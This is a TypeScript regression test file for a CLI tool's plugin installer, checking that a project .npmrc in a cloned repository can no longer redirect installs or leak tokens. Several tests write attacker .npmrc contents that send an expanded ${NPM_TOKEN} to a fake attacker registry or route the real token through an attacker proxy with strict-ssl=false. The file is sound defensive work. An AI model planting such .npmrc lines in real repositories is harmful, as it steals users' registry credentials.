// Issue 14 (5): a .npmrc in the working directory — a cloned repository's — steered installs: it
// overrode the user's registry, expanded `${NPM_TOKEN}` from the environment into a token sent to
// the attacker's registry, and its `proxy=` routed the real registry's token through the attacker.
// Now a project .npmrc is read only with MARATHON_PROJECT_NPMRC=1, is never expanded, and proxies
// and TLS settings come only from the user's own .npmrc and the environment.
import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { makeTarball, pluginFiles, startFakeRegistry, startFakeServer, type FakeRegistry, type FakeServer } from './fake-registry';
import { workspace, type Outcome, type Workspace } from './marathon-binary';

const ENV_SECRET = 'env-secret-npm-token-4711';
const REAL_TOKEN = 'real-registry-token-0815';

let good: FakeRegistry;
let attacker: FakeServer;
let ws: Workspace;
/** The operator's home, apart from the working directory (the "cloned repository"). */
let home: string;

beforeAll(async () => {
  good = await startFakeRegistry();
  good.publish('notes', '1.0.0', makeTarball(pluginFiles('notes', '1.0.0')));
  attacker = await startFakeServer();
});

afterAll(async () => {
  await good?.stop();
  await attacker?.stop();
});

beforeEach(() => {
  ws = workspace();
  home = join(ws.root, 'operator-home');
  mkdirSync(home);
  good.requests.length = 0;
  attacker.requests.length = 0;
});
afterEach(() => ws.cleanup());

const userRc = (text: string) => writeFileSync(join(home, '.npmrc'), text);
const projectRc = (text: string) => writeFileSync(join(ws.root, '.npmrc'), text);
const run = (args: string[], env: NodeJS.ProcessEnv = {}): Promise<Outcome> =>
  ws.run(args, { env: { HOME: home, NPM_TOKEN: ENV_SECRET, ...env } });
const attackerRc = () => `registry=${attacker.url}/\n//127.0.0.1:${attacker.port}/:_authToken=\${NPM_TOKEN}\n`;

describe('a project .npmrc', () => {
  test('is ignored by default: the user registry is used, the attacker hears nothing', async () => {
    userRc(`registry=${good.url}/\n`);
    projectRc(attackerRc());
    const outcome = await run(['plugin', 'install', 'notes@1.0.0', '--json']);
    expect(outcome.code).toBe(0);
    expect(attacker.requests).toEqual([]);
    expect(good.requests.length).toBeGreaterThan(0);
  });

  test('is read with MARATHON_PROJECT_NPMRC=1, but a ${VAR} in it is refused, never expanded or sent', async () => {
    projectRc(attackerRc());
    const outcome = await run(['plugin', 'install', 'notes@1.0.0', '--json'], { MARATHON_PROJECT_NPMRC: '1' });
    expect(outcome.code).toBe(1);
    const { error } = JSON.parse(outcome.stdout);
    expect(error.code).toBe('SETTING_INVALID');
    expect(error.message).toContain('does not expand environment variables in a project .npmrc');
    expect(attacker.requests).toEqual([]);
    expect(`${outcome.stdout}${outcome.stderr}`).not.toContain(ENV_SECRET);
  });

  test('opted in, its registry line is used; not opted in, a failure says it was not read', async () => {
    userRc('registry=http://127.0.0.1:9/\n');
    projectRc(`registry=${good.url}/\n`);
    const unread = await run(['plugin', 'install', 'notes@1.0.0']);
    expect(unread.code).toBe(1);
    expect(unread.stderr).toContain(
      `${join(ws.root, '.npmrc')} was not read: Marathon reads a project .npmrc only with MARATHON_PROJECT_NPMRC=1`,
    );
    expect(good.requests).toEqual([]);
    expect((await run(['plugin', 'install', 'notes@1.0.0'], { MARATHON_PROJECT_NPMRC: '1' })).code).toBe(0);
    expect(good.requests.length).toBeGreaterThan(0);
  });

  test.each([
    ['ignored', {}],
    ['opted in', { MARATHON_PROJECT_NPMRC: '1' }],
  ])('%s, its proxy= never carries the real token', async (_how, extra) => {
    userRc(`registry=${good.url}/\n//127.0.0.1:${good.port}/:_authToken=${REAL_TOKEN}\n`);
    projectRc(`proxy=${attacker.url}/\nhttps-proxy=${attacker.url}/\nstrict-ssl=false\n`);
    const outcome = await run(['plugin', 'install', 'notes@1.0.0', '--json'], extra);
    expect(outcome.code).toBe(0);
    expect(attacker.requests).toEqual([]);
    // The user's token went to its registry, and only there.
    expect(good.requests.some((request) => request.headers.authorization === `Bearer ${REAL_TOKEN}`)).toBe(true);
  });
});

describe('the user .npmrc', () => {
  test('still expands ${VAR} for its own auth lines', async () => {
    userRc(`registry=${good.url}/\n//127.0.0.1:${good.port}/:_authToken=\${NPM_TOKEN}\n`);
    expect((await run(['plugin', 'install', 'notes@1.0.0'])).code).toBe(0);
    expect(good.requests.some((request) => request.headers.authorization === `Bearer ${ENV_SECRET}`)).toBe(true);
  });
});
